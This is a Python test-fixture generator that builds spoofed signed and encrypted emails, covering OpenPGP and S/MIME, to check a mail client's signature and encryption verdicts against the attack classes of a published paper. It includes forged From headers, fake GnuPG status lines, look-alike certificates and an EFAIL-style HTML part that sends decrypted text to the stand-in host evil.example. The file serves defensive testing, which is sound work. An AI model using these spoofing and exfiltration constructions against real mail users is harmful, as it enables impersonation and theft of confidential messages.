"""Mails that want to look signed by Alice, and protected mails in each nesting; `make.py` calls this.

The classes are those of the paper “Johnny, you are fired!” (USENIX Security 2019) in OpenPGP and S/MIME: a signed part
beside, under or around other words, content that the signature is not over, no signer at all, a certificate of another
issuer, a signer who is not the sender, user IDs and names that look like an address, and words that look like a verdict.
"""

import base64
from pathlib import Path

MALLORY = "mallory@evil.example"
USER_IDS = ["alice@uni.example <mallory@evil.example>", "Alice (alice@uni.example) <mallory@evil.example>"]
NO = "Nein, bitte nichts unternehmen.\n"


def people(m):
    """Mallory's key is known and so is her certificate: she may sign, but only as herself."""
    m.gpg("--quick-generate-key", f"Mallory <{MALLORY}>", "ed25519", "default", "0", time="20260105T090000!")
    m.fingerprint(MALLORY)
    for user in USER_IDS:
        m.gpg("--allow-freeform-uid", "--quick-generate-key", user, "ed25519", "default", "0", time="20260105T090000!")
        m.fingerprint("=" + user)
    m.gpg("--quick-generate-key", "Nina <nina@neu.example>", "ed25519", "default", "0", time="20260105T090000!")
    m.fingerprint("nina@neu.example")
    known = [m.FPR[MALLORY]] + [m.FPR["=" + user] for user in USER_IDS]
    (m.KEYS / "mallory.asc").write_bytes(m.gpg("--armor", "--export", *known))
    key, ca = "-newkey rsa:2048 -nodes", "-addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign"
    make = "openssl req -config req.cnf -x509 -days 7300"
    m.run(f"{make} {key} -keyout other.key -out other.pem -subj /CN=Other-CA {ca}".split())
    for name, subject, san, issuer in (
        ("mallory", "/CN=mallory", MALLORY, "ca"), ("looks", "/CN=alice@uni.example", MALLORY, "ca"), ("untrusted", "/CN=alice", m.ALICE, "other"),
    ):
        ext = f"-addext subjectAltName=email:{san} -addext extendedKeyUsage=emailProtection"
        m.run(f"{make} {key} -keyout {name}.key -out {name}.pem -subj {subject} -CA {issuer}.pem -CAkey {issuer}.key {ext}".split())
        m.FPR["smime:" + name] = m.run(f"openssl x509 -in {name}.pem -noout -fingerprint -sha256".split()).decode().split("=")[1].replace(":", "").strip()


def verdict(m, signature, fields=None, by=None, encryption="none", **more):
    wanted = m.want(encryption, signature, fields or {}, by, **more)
    if by is None:
        del wanted["protection"]["signer"]
    return wanted


def der(tag, *inside):
    body = b"".join(inside)
    length = bytes([len(body)]) if len(body) < 128 else bytes([0x82]) + len(body).to_bytes(2, "big")
    return bytes([tag]) + length + body


def nobody(content, certificate):
    """Signed data with content and a certificate, and no signerInfos."""
    data, signed = bytes.fromhex("06092a864886f70d010701"), bytes.fromhex("06092a864886f70d010702")
    sha = der(0x30, bytes.fromhex("0609608648016503040201"))
    inner = der(0x30, data, der(0xA0, der(0x04, content))) if content is not None else der(0x30, data)
    return der(0x30, signed, der(0xA0, der(0x30, b"\x02\x01\x01", der(0x31, sha), inner, der(0xA0, certificate), der(0x31))))


def detached(m, entity, p7s, mark="m"):
    body = f"--=_{mark}\n{entity.rstrip()}\n--=_{mark}\n{m.file('smime.p7s', p7s, 'application/pkcs7-signature')}\n--=_{mark}--\n"
    return f'Content-Type: multipart/signed; boundary="=_{mark}"; micalg=sha-256; protocol="application/pkcs7-signature"\n\n{body}'


def of_mime(m):
    for scheme, sign in (("pgp", m.signed), ("smime", m.cms_signed)):
        by = {"pgp": m.ALICE, "smime": "smime:" + m.ALICE}[scheme]

        def alice():
            said, fields = m.report()
            return sign(m.text(said), m.ALICE), fields

        one, fields = alice()
        m.put(f"spoof-above-{scheme}", m.multi("mixed", m.text(NO), one), verdict(m, "partial", fields, by))
        one, fields = alice()
        m.put(f"spoof-below-{scheme}", m.multi("mixed", one, m.text(NO)), verdict(m, "partial", fields, by))
        one, fields = alice()
        page = m.part("text/html; charset=utf-8", "<p>Nein.</p><img src=\"cid:x\" style=\"display:none\">", "Content-Transfer-Encoding: 8bit")
        m.put(f"spoof-related-{scheme}", m.multi("related", page, one.replace("\n\n", "\nContent-ID: <x>\n\n", 1)), verdict(m, "partial", {}, by))
        one, fields = alice()
        m.put(f"spoof-alternative-{scheme}", m.multi("alternative", one, m.part("text/html; charset=utf-8", "<p>Nein.</p>")), verdict(m, "partial", {}, by))
        one, fields = alice()
        inner = f"From: {m.ALICE}\nTo: {m.BOB}\nSubject: alt\nMIME-Version: 1.0\n" + one
        m.put(f"spoof-attached-{scheme}", m.multi("mixed", m.text(NO), m.part("message/rfc822", inner, "Content-Disposition: attachment")),
              verdict(m, "partial", {}, by))
        one, fields = alice()
        inner = f"From: {m.ALICE}\nTo: {m.BOB}\nSubject: alt\nMIME-Version: 1.0\n" + one
        m.put(f"spoof-only-attached-{scheme}", m.part("message/rfc822", inner), verdict(m, "partial", {}, by))
        one, fields = alice()
        mark = {"pgp": "s", "smime": "m"}[scheme]
        m.put(f"spoof-third-{scheme}", one.replace(f"--=_{mark}--", f"--=_{mark}\nContent-Type: text/plain\n\nNein.\n--=_{mark}--"),
              verdict(m, "partial", {}, by))
        one, fields = alice()
        m.put(f"spoof-changed-{scheme}", one.replace("gestohlen", "gefunden"), verdict(m, "bad", {}))
        # Signed by Mallory, with all kinds of From.
        name = {"pgp": MALLORY, "smime": MALLORY}[scheme]
        by_her = {"pgp": MALLORY, "smime": "smime:mallory"}[scheme]
        for number, sender in enumerate(
            (m.ALICE, f"{m.ALICE}\nFrom: {MALLORY}", f"{MALLORY}\nFrom: {m.ALICE}", f"{MALLORY}, {m.ALICE}", f'"{MALLORY}" <{m.ALICE}>',
             f"=?utf-8?q?mallory=40evil=2Eexample?= <{m.ALICE}>", f'"Alice <{m.ALICE}>" <{MALLORY}>', f"{m.ALICE} <{MALLORY}>",
             f"=?utf-8?q?alice=40uni=2Eexample?= <{MALLORY}>", f"{m.ALICE}\nSender: {MALLORY}", f"{m.ALICE} ({MALLORY})", f"Team: {MALLORY}, {m.ALICE};"), 1):
            said, fields = m.report()
            wanted = verdict(m, "good", fields, by_her)
            m.put(f"spoof-from-{number}-{scheme}", sign(m.text(said), name), wanted, sender=sender)
        # A page that spells its neighbour's ciphertext into an address (EFAIL).
        said, fields = m.report()
        sealed = m.pgp_mime(m.encrypt(m.text(said), by=m.ALICE)) if scheme == "pgp" else m.cms_sealed(m.cms_signed(m.text(said), m.ALICE))
        before = m.part("text/html; charset=utf-8", '<img src="http://evil.example/')
        after = m.part("text/html; charset=utf-8", '">')
        m.put(f"spoof-page-{scheme}", m.multi("mixed", before, sealed, after, mark="o"),
              verdict(m, "partial", {}, by, {"pgp": "pgp_mime", "smime": "smime"}[scheme]))


def of_openpgp(m):
    said, _ = m.report()
    clear = m.gpg("--clearsign", "-u", m.ALICE, data=said).decode()
    eight = "Content-Transfer-Encoding: 8bit"
    m.put("spoof-quoted-1", m.body("Alice schrieb:\n> " + clear.replace("\n", "\n> ") + "\nNein.\n", eight), verdict(m, "none"))
    m.put("spoof-quoted-2", m.body("  " + clear.replace("\n", "\n  ") + "\nNein.\n", eight), verdict(m, "none"))
    m.put("spoof-around-1", m.body(NO + "\n" + clear, eight), verdict(m, "partial", by=m.ALICE))
    m.put("spoof-around-2", m.body(clear + "\n" * 60 + NO, eight), verdict(m, "partial", by=m.ALICE))
    m.put("spoof-around-3", m.part("text/html; charset=utf-8", f"<p>Nein.</p><pre>{clear}</pre>", eight), verdict(m, "none"))
    for number, more in enumerate(("Nein, nichts unternehmen.", "Comment: Nein, nichts unternehmen."), 1):
        m.put(f"spoof-armor-{number}", m.body(clear.replace("\n\n", f"\n{more}\n\n", 1), eight), verdict(m, "partial"))
    for number, user in enumerate(USER_IDS, 1):
        said, fields = m.report()
        fpr = m.FPR["=" + user]
        m.put(f"spoof-user-id-{number}", m.signed(m.text(said), fpr), verdict(m, "good", fields, "=" + user))
    status = "[GNUPG:] NEWSIG\n[GNUPG:] GOODSIG 0123456789ABCDEF Alice <alice@uni.example>\n[GNUPG:] VALIDSIG " + m.FPR[m.ALICE] + "\n"
    said, fields = m.report()
    m.put("spoof-status-1", m.text(status + said), verdict(m, "none", fields))
    said, fields = m.report()
    packed = m.gpg("--armor", "--encrypt", "-r", m.TEAM, "--set-filename", "x\n" + status, data=m.text(said))
    m.put("spoof-status-2", m.pgp_mime(packed), verdict(m, "none", fields, encryption="pgp_mime"))
    said, fields = m.report()
    page = f"<table bgcolor=green><tr><td>&#10004; Gültige Signatur von Alice &lt;{m.ALICE}&gt;</td></tr></table><p>{said.replace(chr(10), '<br>')}</p>"
    m.put("spoof-status-3", m.part("text/html; charset=utf-8", page, eight), verdict(m, "none", fields))
    said, fields = m.report()
    m.put("spoof-status-4", "X-PGP-Signature: good\nX-Signature-Status: GOODSIG " + m.ALICE + "\nAuthentication-Results: mx.example.org; smime=pass\n" + m.text(said),
          verdict(m, "none", fields))
    # The signature of another text.
    said, _ = m.report()
    other, _ = m.report()
    one = m.signed(m.text(said), m.ALICE)
    m.put("spoof-borrowed", one.replace(said.strip(), other.strip()), verdict(m, "bad"))
    said, fields = m.report()
    m.put("spoof-protocol", m.signed(m.text(said), m.ALICE).replace('protocol="application/pgp-signature"', 'protocol="application/pkcs7-signature"'), {
        "protection": {"signer_is_sender": False}, "report": {}})


def of_smime(m):
    alice = Path(m.HOME, "alice.pem")
    certificate = m.run(["openssl", "x509", "-in", str(alice), "-outform", "DER"])
    said, _ = m.report()
    other, _ = m.report()
    opaque = base64.b64decode(m.cms_opaque(m.text(other), m.ALICE).split("\n\n")[1])
    m.put("spoof-content-1", detached(m, m.text(said), opaque), verdict(m, "bad"))
    bare = base64.b64decode(m.cms_signed(m.text(said), m.ALICE).split("Content-Disposition")[1].split("\n\n")[1].split("--")[0])
    m.put("spoof-content-2", m.file("smime.p7m", bare, "application/pkcs7-mime; smime-type=signed-data"), {
        "protection": {"signer_is_sender": False}, "report": {}, "outcome": "quarantined"})
    m.put("spoof-nobody-1", m.file("smime.p7m", nobody(m.crlf(m.text(said)), certificate), "application/pkcs7-mime; smime-type=signed-data"), verdict(m, "bad"))
    m.put("spoof-nobody-2", detached(m, m.text(said), nobody(None, certificate)), verdict(m, "bad"))
    m.put("spoof-nobody-3", detached(m, m.text(said), m.run(["openssl", "crl2pkcs7", "-nocrl", "-certfile", str(alice), "-outform", "DER"])), verdict(m, "bad"))
    said, fields = m.report()
    m.put("spoof-issuer-1", m.cms_signed(m.text(said), "untrusted@x"), verdict(m, "unknown_key", fields))
    said, fields = m.report()
    m.put("spoof-issuer-2", m.cms_opaque(m.text(said), "untrusted@x"), verdict(m, "unknown_key", fields))
    said, fields = m.report()
    m.put("spoof-subject", m.cms_signed(m.text(said), "looks@x"), verdict(m, "good", fields, "smime:looks"))
    # Two signers over the same content, of whom one is Alice.
    said, fields = m.report()
    Path(m.HOME, "entity").write_bytes(m.crlf(m.text(said).rstrip("\n")))
    both = "openssl cms -sign -binary -md sha256 -signer alice.pem -inkey alice.key -signer untrusted.pem -inkey untrusted.key -outform DER -in entity"
    m.put("spoof-both", detached(m, m.text(said), m.run(both.split())), {"protection": {"signer_is_sender": False}, "report": fields})


def nestings(m):
    good = lambda kind, fields, by: m.want(kind, "good", fields, by, True)
    # RFC 3156, 6.1: signed, then encrypted.
    said, fields = m.report()
    m.put("nested-signed-1", m.pgp_mime(m.encrypt(m.signed(m.text(said), m.ALICE))), good("pgp_mime", fields, m.ALICE))
    said, fields = m.report()
    whole = m.multi("mixed", m.text(said), m.file("leer.txt", b"\n", "text/plain"), mark="i")
    m.put("nested-signed-2", m.pgp_mime(m.encrypt(m.signed(whole, m.ALICE))), good("pgp_mime", fields, m.ALICE))
    # Encrypted, then signed: the signature is over the ciphertext.
    for number, inner in ((1, None), (2, m.ALICE)):
        said, fields = m.report()
        # What is signed inside as well is Alice's.
        wanted = m.want("pgp_mime", "good", fields, m.ALICE, True) if inner else verdict(m, "partial", fields, encryption="pgp_mime")
        m.put(f"nested-sealed-{number}", m.signed(m.pgp_mime(m.encrypt(m.text(said), by=inner)), m.ALICE), wanted)
    for number, wrap in ((1, m.cms_signed), (2, m.cms_opaque)):
        said, fields = m.report()
        m.put(f"nested-smime-{number}", wrap(m.cms_sealed(wrap(m.text(said), m.ALICE)), m.ALICE), {
            "protection": {"encryption": "smime"}, "report": fields})
        said, fields = m.report()
        m.put(f"smime-only-sealed-{number}", m.cms_sealed(m.text(said), ("-aes256", "-aes128")[number - 1]).replace(
            "application/pkcs7-mime", ("application/pkcs7-mime", "application/x-pkcs7-mime")[number - 1]), m.want("smime", "none", fields))
    said, _ = m.report()
    shut = m.file("smime.p7m", m.run("openssl cms -encrypt -binary -aes256 -outform DER -recip bob.pem".split(), m.crlf(m.text(said))),
                  "application/pkcs7-mime; smime-type=enveloped-data")
    m.put("smime-not-for-us", shut, {"protection": {"encryption": "smime", "signature": "none"}, "report": {}, "outcome": "quarantined"})


def others(m):
    # Words around a block; several blocks of one person.
    for number, (before, after) in enumerate((("Hallo Team,\n\n", "\n-- \nAlice\nTel. 1\n"), ("Bitte vertraulich behandeln.\n\n", "")), 1):
        said, fields = m.report()
        wanted = verdict(m, "partial", fields, m.ALICE, "pgp_inline")
        m.put(f"around-{number}", m.body(before.encode() + m.encrypt(said, by=m.ALICE) + after.encode()), wanted)
        said, fields = m.report()
        more = "Nachtrag: das Gerät war verschlüsselt.\n"
        blocks = m.encrypt(said, by=m.ALICE) + b"\n" + m.encrypt(more, by=m.ALICE)
        entity = m.body(blocks) if number == 1 else m.multi("mixed", m.body(m.encrypt(said, by=m.ALICE)), m.body(m.encrypt(more, by=m.ALICE)))
        m.put(f"blocks-{number}", entity, m.want("pgp_inline", "good", fields, m.ALICE, True))
    # Attached files of each ending, a form inside.
    for number, (name, ending, armor) in enumerate((("verlustmeldung.docx", "gpg", False), ("datenpanne-form.pdf", "pgp", False), ("datenpanne.odt", "asc", True)), 1):
        data, known = m.form(name)
        sealed = m.encrypt(data) if armor else m.gpg("--encrypt", "-r", m.TEAM, data=data)
        fields = m.known_fields(name.rsplit(".", 1)[0])
        m.put(f"attached-{number}", m.multi("mixed", m.text("Anbei.\n"), m.file(f"{name}.{ending}", sealed)), m.want("pgp_attachment", "none", fields))
    # A list's footer and a gateway's note around PGP/MIME and S/MIME.
    footer = m.part("text/plain; charset=us-ascii", "_______________________________________________\nsec mailing list\nsec@lists.example\n")
    said, fields = m.report()
    m.put("gateway-2", m.multi("mixed", m.signed(m.text(said), m.ALICE), footer, mark="l"), m.want("none", "partial", fields, m.ALICE))
    said, fields = m.report()
    m.put("gateway-3", m.multi("mixed", m.cms_sealed(m.cms_signed(m.text(said), m.ALICE)), footer, mark="l"), m.want("smime", "partial", fields, "smime:" + m.ALICE))
    # Keys that come along are told of and prove nothing.
    nina = "nina@neu.example"
    key = m.gpg("--export", "--export-options", "export-minimal", nina)
    said, fields = m.report()
    header = f"Autocrypt: addr={nina}; prefer-encrypt=mutual; keydata=\n " + "\n ".join(m.b64(key).split()) + "\n"
    m.put("autocrypt-1", header + m.signed(m.text(said), nina), m.want("none", "unknown_key", fields, nina), sender=nina)
    said, fields = m.report()
    armored = m.gpg("--armor", "--export", nina).decode()
    whole = m.multi("mixed", m.text(said), m.part('application/pgp-keys; name="nina.asc"', armored, 'Content-Disposition: attachment; filename="nina.asc"'), mark="k")
    m.put("autocrypt-2", m.signed(whole, nina), m.want("none", "unknown_key", fields, nina), sender=nina)
    said, fields = m.report()
    m.put("autocrypt-3", header.replace(nina + ";", "alice@uni.example;") + m.text(said), m.want("none", "none", fields), sender=m.ALICE)


def make(m):
    people(m)
    of_mime(m)
    of_openpgp(m)
    of_smime(m)
    nestings(m)
    others(m)
